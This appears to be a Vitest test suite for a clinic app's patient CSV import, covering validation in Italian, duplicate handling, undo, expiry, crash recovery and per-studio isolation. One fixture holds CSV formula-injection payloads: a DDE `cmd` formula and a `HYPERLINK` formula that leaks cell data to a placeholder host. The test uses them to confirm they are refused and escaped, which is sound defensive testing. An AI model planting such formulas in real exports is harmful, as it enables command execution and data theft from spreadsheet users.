import { importApiMessages as am, importMessages as m } from '@studiolo/domain/imports';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, type TestApp } from '../../../test/helpers/build-test-app.ts';
import {
  patientImportCsv,
  randomCodiceFiscale,
  runPatientImport,
  uploadPatientImport,
  validEventInput,
  validPatientInput,
} from '../../../test/helpers/factories.ts';
import { api, apiOk } from '../../../test/helpers/http.ts';
import { createStudioOwner, type TestStudioUser } from '../../../test/helpers/login-as.ts';
import { multipartFile } from '../../../test/helpers/multipart.ts';
import { rowsOf } from '../../../test/helpers/sql.ts';
import { sweepDeletedFiles } from '../clinical/attachments.service.ts';
import { expireUnstartedPatientImports, recoverPatientImports } from './patient-imports.service.ts';

type Counts = Record<string, number>;
type ImportView = { id: string; status: string; counts: Counts | null; mapping: (string | null)[]; columns: string[] };
type RowView = {
  row: number;
  values: Record<string, string>;
  ok: boolean;
  problems: { field: string; message: string }[];
  duplicate: { kind: string; message: string; patientId: string | null } | null;
  choice: string;
};
type Page = { content: RowView[]; totalElements: number };

let t: TestApp;
let owner: TestStudioUser;
beforeAll(async () => {
  t = await buildTestApp();
  owner = await createStudioOwner(t.app);
});
afterAll(async () => {
  await t.close();
});

const upload = (bytes: Buffer, fileName = 'pazienti.csv', who: TestStudioUser = owner) => {
  const body = multipartFile('file', fileName, 'text/csv', bytes);
  return t.app.inject({
    method: 'POST',
    url: '/app/api/importazioni-pazienti',
    headers: { authorization: `Bearer ${who.token}`, 'content-type': body.contentType },
    payload: body.payload,
  });
};
const rowsPage = (id: string, filtro = 'problemi') =>
  apiOk<Page>(t.app, {
    method: 'GET',
    url: `/importazioni-pazienti/${id}/righe`,
    query: { filtro, size: '200' },
    token: owner.token,
  });
const patch = (id: string, body: unknown, who: TestStudioUser = owner) =>
  api<ImportView>(t.app, { method: 'PATCH', url: `/importazioni-pazienti/${id}`, token: who.token, body });
const importsOf = async (who: TestStudioUser) =>
  (
    await rowsOf<{ n: string }>(
      t.deps.db,
      `select count(*)::text as n from patient_imports where studio_id = '${who.studioId}'`,
    )
  )[0]?.n;
const patientsOf = async (who: TestStudioUser) =>
  Number(
    (
      await rowsOf<{ n: string }>(
        t.deps.db,
        `select count(*)::text as n from patients where studio_id = '${who.studioId}'`,
      )
    )[0]?.n,
  );

describe('patient import: preview, corrections, import, report, undo', () => {
  it('checks every row with the patient form’s Italian messages, lets the user fix cells, imports, reports and undoes', async () => {
    const studio = await createStudioOwner(t.app);
    const wrong = [
      // a fiscal code that is not one
      'Rossi;Mario;RSSMRA80A01H50;+39 333 1234567;mario.rossi@example.it',
      // a formula in the name, an +HYPERLINK in the e-mail: refused as text, never evaluated
      `=cmd|' /C calc'!A0;Anna;${randomCodiceFiscale('D')};;anna@example.it`,
      `Bianchi;Luca;${randomCodiceFiscale('U')};;"+HYPERLINK(""http://x.example/?leak=""&A1;""clic"")"`,
    ];
    const created = await uploadPatientImport(t.app, studio, patientImportCsv(20, wrong));
    expect(created.counts).toMatchObject({ total: 23, valid: 20, invalid: 3, toImport: 20, toSkip: 3 });
    const imp = await apiOk<ImportView>(t.app, {
      method: 'GET',
      url: `/importazioni-pazienti/${created.id}`,
      token: studio.token,
    });
    expect(imp.columns).toEqual(['Cognome', 'Nome', 'Codice fiscale', 'Cellulare', 'Email']);
    expect(imp.mapping).toEqual(['cognome', 'nome', 'codiceFiscale', 'cellulare', 'email']);
    expect(imp.status).toBe('PREVIEW');

    const page = await apiOk<Page>(t.app, {
      method: 'GET',
      url: `/importazioni-pazienti/${created.id}/righe`,
      query: { filtro: 'problemi', size: '200' },
      token: studio.token,
    });
    const invalid = page.content.filter((r) => !r.ok);
    expect(invalid.map((r) => r.row)).toEqual([22, 23, 24]);
    const messages = invalid.flatMap((r) => r.problems.map((p) => p.message));
    expect(messages).toContain(m.formulaLike('='));
    expect(messages).toContain(m.formulaLike('+'));
    expect(messages.some((msg) => /codice fiscale/i.test(msg))).toBe(true);

    // fix two rows in the preview, skip the third
    const fixed = await api<ImportView>(t.app, {
      method: 'PATCH',
      url: `/importazioni-pazienti/${created.id}`,
      token: studio.token,
      body: {
        fixes: [
          { row: 22, values: { codiceFiscale: randomCodiceFiscale('U') } },
          { row: 24, values: { email: 'luca.bianchi@example.it' } },
        ],
        choices: [{ row: 23, choice: 'skip' }],
        tags: ['Importati 2026', 'Vecchio gestionale'],
      },
    });
    expect(fixed.status).toBe(200);
    expect(fixed.body.response?.counts).toMatchObject({ total: 23, valid: 22, invalid: 1, toImport: 22, toSkip: 1 });

    const done = await runPatientImport(t.app, studio, created.id);
    expect(done).toMatchObject({ status: 'DONE', result: { imported: 22, updated: 0, skipped: 1 } });
    expect(await patientsOf(studio)).toBe(22);
    const bianchi = await apiOk<{ content: { id: string; tags: string[]; datiGenerali: { nomeCompleto: string } }[] }>(
      t.app,
      { method: 'GET', url: '/v2/pazienti', query: { searchText: 'bianchi luca' }, token: studio.token },
    );
    expect(bianchi.content).toHaveLength(1);
    expect(bianchi.content[0]?.tags).toEqual(['Importati 2026', 'Vecchio gestionale']);

    // the report: BOM, semicolons, a reason for the skipped row, the formula written back escaped
    const report = await t.app.inject({
      method: 'GET',
      url: `/app/api/importazioni-pazienti/${created.id}/report.csv`,
      headers: { authorization: `Bearer ${studio.token}` },
    });
    expect(report.statusCode).toBe(200);
    expect(report.headers['content-type']).toContain('text/csv');
    expect(report.body.startsWith('\uFEFFRiga;Esito;Paziente;Motivo')).toBe(true);
    const lines = report.body.split('\r\n');
    expect(lines.filter((l) => l.includes(';Importato;'))).toHaveLength(22);
    const skippedLine = lines.find((l) => l.startsWith('23;')) as string;
    expect(skippedLine).toContain('Saltato');
    expect(skippedLine).toContain(m.formulaLike('='));
    // the name as the file had it, written back escaped: a spreadsheet shows it as text
    expect(skippedLine).toContain(";'=cmd|' /C calc'!A0 Anna;");
    expect(lines.some((l) => /;=|;\+|;-|;@|;"=|;"\+|;"-|;"@/.test(l))).toBe(false);

    // undo: a patient changed since is kept and listed; the others go
    const changed = bianchi.content[0]?.id as string;
    await apiOk(t.app, {
      method: 'PATCH',
      url: `/pazienti/${changed}/tags`,
      token: studio.token,
      body: { tag: 'Da richiamare' },
    });
    const undone = await apiOk<{ removed: number; kept: { patientId: string; reason: string }[] }>(t.app, {
      method: 'POST',
      url: `/importazioni-pazienti/${created.id}/annulla`,
      token: studio.token,
    });
    expect(undone.removed).toBe(21);
    expect(undone.kept).toEqual([expect.objectContaining({ patientId: changed, reason: am.keptChanged })]);
    expect(await patientsOf(studio)).toBe(1);
    const again = await api(t.app, {
      method: 'POST',
      url: `/importazioni-pazienti/${created.id}/annulla`,
      token: studio.token,
    });
    expect(again.status).toBe(409);
    expect(again.body.answer).toBe(am.alreadyUndone);
  });

  it('finds duplicates in the file and among the studio’s patients; a duplicate is skipped or updates the patient', async () => {
    const studio = await createStudioOwner(t.app);
    const existing = validPatientInput();
    const cf = existing.datiGenerali.codiceFiscale as string;
    const patient = await apiOk<{ id: string }>(t.app, {
      method: 'POST',
      url: '/pazienti',
      token: studio.token,
      body: existing,
    });
    const other = validPatientInput();
    const ocf = other.datiGenerali.codiceFiscale as string;
    await apiOk(t.app, { method: 'POST', url: '/pazienti', token: studio.token, body: other });
    const twice = randomCodiceFiscale('U');
    const csv = patientImportCsv(2, [
      `Verdi;Giulia;${cf};+39 347 7654321;nuova.email@example.it`,
      `Verdi;Giulia;${ocf};;altra@example.it`,
      `Gialli;Paolo;${twice};;paolo@example.it`,
      `Gialli;Paolo;${twice};;paolo.bis@example.it`,
    ]);
    const created = await uploadPatientImport(t.app, studio, csv);
    expect(created.counts).toMatchObject({ total: 6, valid: 6, duplicates: 3, toImport: 3, toSkip: 3 });
    const page = await apiOk<Page>(t.app, {
      method: 'GET',
      url: `/importazioni-pazienti/${created.id}/righe`,
      query: { filtro: 'problemi' },
      token: studio.token,
    });
    const dup = (row: number) => page.content.find((r) => r.row === row)?.duplicate;
    expect(dup(4)).toMatchObject({ kind: 'existing', patientId: patient.id });
    expect(dup(5)).toMatchObject({ kind: 'existing' });
    expect(dup(7)).toMatchObject({ kind: 'file', message: m.duplicateInFile(6) });
    // an in-file duplicate cannot update; the existing one can
    const refused = await api(t.app, {
      method: 'PATCH',
      url: `/importazioni-pazienti/${created.id}`,
      token: studio.token,
      body: { choices: [{ row: 7, choice: 'update' }] },
    });
    expect(refused.status).toBe(400);
    expect(refused.body.answer).toBe(am.updateOnlyExisting(7));
    await apiOk(t.app, {
      method: 'PATCH',
      url: `/importazioni-pazienti/${created.id}`,
      token: studio.token,
      body: { choices: [{ row: 4, choice: 'update' }] },
    });
    const done = await runPatientImport(t.app, studio, created.id);
    expect(done).toMatchObject({ status: 'DONE', result: { imported: 3, updated: 1, skipped: 2 } });
    const updated = await apiOk<{ contatti: { email: string; cellulare: string }; residenza: { comune: string } }>(
      t.app,
      { method: 'GET', url: `/pazienti/${patient.id}`, token: studio.token },
    );
    expect(updated.contatti.email).toBe('nuova.email@example.it');
    // what the file leaves empty keeps the patient's value
    expect(updated.residenza.comune).toBe('Bologna');
    expect(await patientsOf(studio)).toBe(5);
  });

  it('undo keeps a patient with an appointment, and is refused after 24 hours', async () => {
    const studio = await createStudioOwner(t.app);
    const created = await uploadPatientImport(t.app, studio, patientImportCsv(3));
    await runPatientImport(t.app, studio, created.id);
    const [first] = await rowsOf<{ id: string }>(
      t.deps.db,
      `select id from patients where studio_id = '${studio.studioId}' order by sort_name limit 1`,
    );
    await apiOk(t.app, {
      method: 'POST',
      url: '/events',
      token: studio.token,
      body: await validEventInput(t.app, studio, { pazienteId: first?.id }),
    });
    const undone = await apiOk<{ removed: number; kept: { patientId: string; reason: string }[] }>(t.app, {
      method: 'POST',
      url: `/importazioni-pazienti/${created.id}/annulla`,
      token: studio.token,
    });
    expect(undone.removed).toBe(2);
    expect(undone.kept).toEqual([expect.objectContaining({ patientId: first?.id, reason: am.keptLinked })]);
    expect(await patientsOf(studio)).toBe(1);

    const late = await uploadPatientImport(t.app, studio, patientImportCsv(2));
    await runPatientImport(t.app, studio, late.id);
    await rowsOf(
      t.deps.db,
      `update patient_imports set finished_at = now() - interval '25 hours' where id = '${late.id}'`,
    );
    const expired = await api(t.app, {
      method: 'POST',
      url: `/importazioni-pazienti/${late.id}/annulla`,
      token: studio.token,
    });
    expect(expired.status).toBe(409);
    expect(expired.body.answer).toBe(am.undoExpired);
    expect(await patientsOf(studio)).toBe(3);
  });

  it('deletes an import never started after a week with its file, and an import whose studio goes', async () => {
    const studio = await createStudioOwner(t.app);
    const old = await uploadPatientImport(t.app, studio, patientImportCsv(2));
    const fresh = await uploadPatientImport(t.app, studio, patientImportCsv(2));
    const done = await uploadPatientImport(t.app, studio, patientImportCsv(2));
    await runPatientImport(t.app, studio, done.id);
    await rowsOf(
      t.deps.db,
      `update patient_imports set updated_at = now() - interval '8 days' where id in ('${old.id}', '${done.id}')`,
    );
    const fileOf = (id: string) => t.deps.storage.get(`${studio.studioId}/imports/${id}`);
    expect(await fileOf(old.id)).not.toBeNull();

    expect(await expireUnstartedPatientImports(t.deps)).toBe(1);
    await sweepDeletedFiles(t.deps);
    const status = (id: string) =>
      api(t.app, { method: 'GET', url: `/importazioni-pazienti/${id}`, token: studio.token }).then((r) => r.status);
    expect(await status(old.id)).toBe(404);
    expect(await fileOf(old.id)).toBeNull();
    // a week is counted from the last change; a finished import stays for its report and undo window's record
    expect(await status(fresh.id)).toBe(200);
    expect(await fileOf(fresh.id)).not.toBeNull();
    expect(await status(done.id)).toBe(200);

    // the studio deleted with everything: the file of its import in preview leaves storage too
    await rowsOf(t.deps.db, `delete from studios where id = '${studio.studioId}'`);
    await sweepDeletedFiles(t.deps);
    expect(await fileOf(fresh.id)).toBeNull();
  });

  it('queues again at start-up an import whose job a crash lost', async () => {
    const studio = await createStudioOwner(t.app);
    const created = await uploadPatientImport(t.app, studio, patientImportCsv(2));
    // as if the process had stopped between the plan's commit and the queue
    await rowsOf(
      t.deps.db,
      `update patient_imports set status = 'QUEUED', to_write = 0, updated_at = now() - interval '2 minutes'
       where id = '${created.id}'`,
    );
    await recoverPatientImports(t.deps);
    for (let i = 0; i < 100; i++) {
      const imp = await apiOk<{ status: string }>(t.app, {
        method: 'GET',
        url: `/importazioni-pazienti/${created.id}`,
        token: studio.token,
      });
      if (imp.status === 'DONE') return;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    throw new Error('the import was not resumed');
  });

  it('changes the mapping by hand and checks again; a mapping without a name is refused at the start', async () => {
    const created = await uploadPatientImport(t.app, owner, patientImportCsv(3));
    const res = await patch(created.id, { mapping: [{ column: 3, field: 'telefono' }] });
    expect(res.status).toBe(200);
    expect(res.body.response?.mapping).toEqual(['cognome', 'nome', 'codiceFiscale', 'telefono', 'email']);
    const noName = await patch(created.id, {
      mapping: [
        { column: 0, field: null },
        { column: 1, field: null },
      ],
    });
    expect(noName.body.response?.counts).toBeNull();
    const start = await api(t.app, {
      method: 'POST',
      url: `/importazioni-pazienti/${created.id}/avvio`,
      token: owner.token,
    });
    expect(start.status).toBe(400);
    expect(start.body.answer).toBe(m.noMappedName);
    const outside = await patch(created.id, { mapping: [{ column: 9, field: 'note' }] });
    expect(outside.status).toBe(400);
    const unknownRow = await patch(created.id, { fixes: [{ row: 99, values: { nome: 'X' } }] });
    expect(unknownRow.status).toBe(400);
    expect(unknownRow.body.answer).toBe(am.rowUnknown(99));
  });
});

describe('patient import: bad input answers in Italian and writes nothing', () => {
  const garbage = () => {
    const bytes = Buffer.alloc(4096);
    let seed = 7;
    for (let i = 0; i < bytes.length; i++) {
      seed = (seed * 1103515245 + 12345) >>> 0;
      bytes[i] = seed >>> 24;
    }
    return bytes;
  };
  const cp1252 = (text: string) => Buffer.from(text, 'latin1');
  it.each([
    ['an empty file', () => Buffer.alloc(0), m.emptyFile],
    ['a binary file renamed .csv', garbage, m.unreadable],
    ['a header-only file', () => Buffer.from('Cognome;Nome;Codice fiscale\r\n'), m.headerOnly],
    [
      'a broken encoding (UTF-8 names in a Windows-1252 file)',
      () => Buffer.concat([cp1252('Cognome;Nome\nNiccolò;Lucìa\n'), Buffer.from('Cantù;Josè\n', 'utf8')]),
      m.brokenEncoding,
    ],
    ['an old Excel file', () => Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]), m.oldExcel],
  ])('%s', async (_name, bytes, message) => {
    const before = await importsOf(owner);
    const res = await upload(bytes());
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({ code: 'ERROR', answer: message });
    expect(await importsOf(owner)).toBe(before);
  });

  it('refuses 60,000 rows', async () => {
    const before = await importsOf(owner);
    const lines = ['Cognome;Nome;Codice fiscale'];
    for (let i = 0; i < 60_000; i++) lines.push(`Rossi${i};Mario;RSSMRA80A01H501U`);
    const res = await upload(Buffer.from(lines.join('\n')));
    expect(res.statusCode).toBe(400);
    expect(res.json().answer).toBe(m.tooManyRows(50_000));
    expect(await importsOf(owner)).toBe(before);
  });

  it('refuses a file over 20 MB while it streams in', async () => {
    const before = await importsOf(owner);
    const res = await upload(Buffer.alloc(20 * 1024 * 1024 + 10, 0x41));
    expect(res.statusCode).toBe(413);
    expect(res.json().answer).toBe(m.tooLarge(20));
    expect(await importsOf(owner)).toBe(before);
  });

  it('refuses a request without a file, and changes after the start', async () => {
    const res = await t.app.inject({
      method: 'POST',
      url: '/app/api/importazioni-pazienti',
      headers: { authorization: `Bearer ${owner.token}`, 'content-type': 'application/json' },
      payload: '{}',
    });
    expect(res.statusCode).toBe(415);
    const created = await uploadPatientImport(t.app, owner, patientImportCsv(2));
    await runPatientImport(t.app, owner, created.id);
    const late = await patch(created.id, { tags: ['Tardi'] });
    expect(late.status).toBe(409);
    expect(late.body.answer).toBe(am.notInPreview);
  });

  it('keeps each studio to its own imports', async () => {
    const created = await uploadPatientImport(t.app, owner, patientImportCsv(2));
    const other = await createStudioOwner(t.app);
    const theirs = await api(t.app, { method: 'GET', url: `/importazioni-pazienti/${created.id}`, token: other.token });
    expect(theirs.status).toBe(404);
    expect((await patch(created.id, { tags: ['x'] }, other)).status).toBe(404);
    expect((await rowsPage(created.id, 'tutte')).totalElements).toBe(2);
  });
});
